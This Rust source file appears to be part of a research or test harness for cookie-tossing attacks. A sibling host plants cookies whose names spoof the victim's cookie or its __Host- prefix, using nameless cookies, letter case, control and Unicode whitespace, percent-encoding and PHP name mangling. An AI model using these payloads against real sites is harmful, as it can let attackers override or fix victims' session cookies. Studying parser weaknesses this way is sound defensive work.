//! Attacks with names that a careless parser takes for the name of the victim's cookie. A sibling host sets the
//! cookies.

use super::super::attack::{ATTACK, Attack, Careless, From, Plant, Raw, Target};
use super::careless;

const DEFAULT: Attack = Attack { file: "names.rs", by_hand: true, ..ATTACK };

pub(crate) fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "Nameless cookies",
            summary: "A sibling host sets a cookie without a name. The value looks like a cookie with a prefix.",
            plants: |target| {
                spelled(target, |name, value| {
                    vec![format!("={name}={value}"), format!("=={name}={value}"), format!(" = {name}={value}")]
                })
            },
            no_control: Some(
                "the five parsers keep a nameless cookie nameless, and Chromium and Firefox do not store it; the next \
                 attack has the bytes of an old browser",
            ),
            ..DEFAULT
        },
        Attack {
            name: "Serialization collisions",
            summary: "Two different cookies look alike in the request. An old browser sends a nameless cookie as the \
                      victim's cookie.",
            plants: |target| {
                spelled(target, |name, value| {
                    vec![format!("={name}={value}"), format!("{name}"), format!("={name}"), format!("{name}==={value}")]
                })
            },
            raw: Raw::Pairs(|target| {
                let values = target.names().into_iter().flat_map(|name| {
                    [format!("{name}={}", target.value), name.clone(), format!("{name}==={}", target.value)]
                });
                values.map(String::into_bytes).collect()
            }),
            no_control: Some(
                "today's browsers do not send the collision; the raw requests have the bytes of an old browser",
            ),
            ..DEFAULT
        },
        Attack {
            name: "Prefix spoofing by letter case",
            summary: "A sibling host sets the name in other letter cases, such as `__HOST-`.",
            plants: |target| {
                spelled(target, |name, value| {
                    let mixed = name.replace("Host", "hOST").replace("id", "iD");
                    [name.to_lowercase(), name.to_uppercase(), mixed]
                        .iter()
                        .filter(|spelling| *spelling != name)
                        .map(|spelling| format!("{spelling}={value}"))
                        .collect()
                })
            },
            careless: Some(Careless { row: "a reader without letter case", read: careless::any_letter_case }),
            ..DEFAULT
        },
        Attack {
            name: "Prefix spoofing by white space",
            summary: "A sibling host adds spaces, tabs and control characters to the name.",
            plants: |target| {
                spelled(target, |name, value| {
                    let spaced = ["\t", "\u{b}", "\u{c}", "\0", "\u{1f}"]
                        .iter()
                        .flat_map(|space| [format!("{space}{name}={value}"), format!("{name}{space}={value}")]);
                    spaced.chain([format!("a {name}={value}"), format!("{name} a={value}")]).collect()
                })
            },
            careless: Some(Careless { row: "a reader of the last word", read: careless::last_word }),
            ..DEFAULT
        },
        Attack {
            name: "Prefix spoofing by Unicode white space",
            summary: "A sibling host adds Unicode white space to the name, such as U+00A0.",
            plants: |target| {
                spelled(target, |name, value| {
                    let spaces = ["\u{a0}", "\u{85}", "\u{1680}", "\u{2000}", "\u{2028}", "\u{3000}"];
                    let spaced = spaces
                        .iter()
                        .flat_map(|space| [format!("{space}{name}={value}"), format!("{name}{space}={value}")]);
                    spaced.collect()
                })
            },
            ..DEFAULT
        },
        Attack {
            name: "Percent-encoded names",
            summary: "A sibling host percent-encodes bytes of the name, such as `%5F_Host-`.",
            plants: |target| {
                spelled(target, |name, value| {
                    let first = format!("%{:02X}{}", name.as_bytes()[0], &name[1..]);
                    let all: String = name.bytes().map(|byte| format!("%{byte:02x}")).collect();
                    vec![
                        format!("{first}={value}"),
                        format!("{all}={value}"),
                        format!("%20{name}={value}"),
                        format!("{name}%C2%A0={value}"),
                    ]
                })
            },
            ..DEFAULT
        },
        Attack {
            name: "Name mangling",
            summary: "A sibling host sets names that PHP changes to the victim's name, such as `..Host-`.",
            plants: |target| {
                spelled(target, |name, value| {
                    let dots = name.replacen("__", "..", 1);
                    let mut cookies = vec![format!("{name}[]={value}"), format!("{name}[0]={value}")];
                    if dots != *name {
                        cookies.extend([format!("{dots}={value}"), format!("_.{}={value}", &name[2..])]);
                        cookies.push(format!("[_{}={value}", &name[2..]));
                    }
                    cookies
                })
            },
            careless: Some(Careless { row: "a reader like PHP", read: careless::like_php }),
            ..DEFAULT
        },
    ]
}

/// Sets the cookies that `spell` returns for each name and the attacker's value, by a header and by a script.
fn spelled(target: &Target<'_>, spell: impl Fn(&str, &str) -> Vec<String>) -> Vec<Plant> {
    let domain = &target.setup.domain;
    let cookies = target.names().into_iter().flat_map(|name| spell(&name, &target.value));
    let plants =
        cookies.flat_map(|cookie| From::Sibling.sends_and_writes(format!("{cookie}; Domain={domain}; Path=/; Secure")));
    plants.collect()
}
